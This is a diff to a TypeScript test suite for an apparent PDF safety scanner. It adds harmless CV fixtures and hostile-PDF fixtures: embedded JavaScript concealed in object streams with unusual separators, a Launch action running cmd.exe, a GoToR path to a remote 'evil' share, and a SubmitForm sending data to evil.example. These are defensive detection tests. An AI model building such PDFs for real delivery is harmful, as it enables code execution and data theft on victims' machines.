@@ -27,9 +27,19 @@ const stream = (dictionary: string, content: Buffer | string) =>
     Buffer.from(content as string, 'latin1'),
     Buffer.from('\nendstream'),
   ]);
+const flate = '/Filter/FlateDecode';
+const hidden = `/Type/ObjStm/N 2${flate}`;
 const packed = (text: string) => deflateSync(Buffer.from(text, 'latin1'));
 const objectStream = (text: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode') =>
   stream(dictionary, packed(text));
+const script = '12 0 <</S/JavaScript/JS(a)>>';
+/** With another word than `stream` and the end of a line before the bytes. */
+const unusualStart = (gap: string) =>
+  Buffer.concat([
+    Buffer.from(`<</N 1/First 5${flate}>>%\nstream${gap}`),
+    packed(script),
+    Buffer.from('\nendstream'),
+  ]);
 const skills = 'BT (HTML/CSS/JavaScript, React/JS (2 years), Product/Launch, /EmbeddedFile, /XFA) Tj ET';
 
 describe('an innocent PDF', () => {
@@ -37,6 +47,13 @@ describe('an innocent PDF', () => {
     ['as it comes', pdf()],
     ['with skills in its text', withObjects(stream('', skills))],
     ['with skills in a packed text', withObjects(stream('/Filter/FlateDecode', packed(skills)))],
+    [
+      'with a drawing and skills',
+      withObjects(
+        stream('/Filter/FlateDecode', packed(`1 0 0 1 72 720 cm BT (HTML /Launch CV) Tj ${skills}`)),
+      ),
+    ],
+    ['with slashes between skills', withObjects('<</Title(HTML/CSS/JS (3 years))>>')],
     ['with skills as keywords', withObjects(`<</Title(CV)/Keywords(${skills.replaceAll(/[()]/g, '')})>>`)],
     ['with a page to begin on', withObjects('<</Type/Catalog/OpenAction[3 0 R/Fit]>>')],
     ['with a link', withObjects('<</S/URI/URI(https://example.com/Launch)>>')],
@@ -81,6 +98,28 @@ describe('a PDF with a script', () => {
       ],
       ['in an object stream, as a name of its own', withObjects(objectStream('12 0 13 12 /JavaScript <<>>'))],
       [
+        'in an object stream, where another object follows at once',
+        withObjects(objectStream('12 0 13 13 /JavaScript/A<</S 12 0 R/JS(a)>>', `${hidden}/First 12`)),
+      ],
+      ['behind a name', withObjects('<</S 12 0 R/X/Y/JS(a)>>')],
+      ['behind a word', withObjects('<</S 12 0 R/X true/JS(a)>>')],
+      [
+        'in an object stream with its facts elsewhere',
+        withObjects(objectStream(script, `/N 13 0 R/First 14 0 R${flate}`)),
+      ],
+      [
+        'in an object stream behind the same word in a text',
+        withObjects(objectStream(script, `/Type/ObjStm/First 5/X(stream\n)${flate}`)),
+      ],
+      [
+        'in an object stream behind a whole one in a text',
+        withObjects(objectStream(script, `/Type/ObjStm/First 5/X(stream\n1 0 <<>>\nendstream\n)${flate}`)),
+      ],
+      ...['', 'x', '\0\n', '\f\n', 'x\n'].map((gap): [string, Buffer] => [
+        `in an object stream behind ${JSON.stringify(gap)}`,
+        withObjects(unusualStart(gap)),
+      ]),
+      [
         'in the last of many object streams',
         withObjects(
           ...Array.from({ length: 50 }, (_, index) =>
@@ -94,7 +133,22 @@ describe('a PDF with a script', () => {
 });
 
 describe('a PDF that', () => {
-  find([['starts a program', withObjects('<</S/Launch/F(cmd.exe)>>')]], 'launch');
+  find(
+    [
+      ['starts a program', withObjects('<</S/Launch/F(cmd.exe)>>')],
+      ['opens a file of another machine', withObjects('<</OpenAction<</S/GoToR/F(\\\\evil\\a)/D[0/Fit]>>>>')],
+      [
+        'starts a program by reference',
+        withObjects(objectStream('12 0 13 8 /Launch [] <</S 12 0 R>>', `${hidden}/First 10`)),
+      ],
+      [
+        'opens a file by reference',
+        withObjects(objectStream('12 0 13 8 /GoToE <</S 12 0 R>>', `${hidden}/First 10`)),
+      ],
+    ],
+    'launch',
+  );
+  find([['sends its form', withObjects('<</S/SubmitForm/F(https://evil.example)>>')]], 'outside');
   find(
     [
       ['holds a file', withObjects('<</Names<</EmbeddedFiles<</Names[]>>>>>>')],
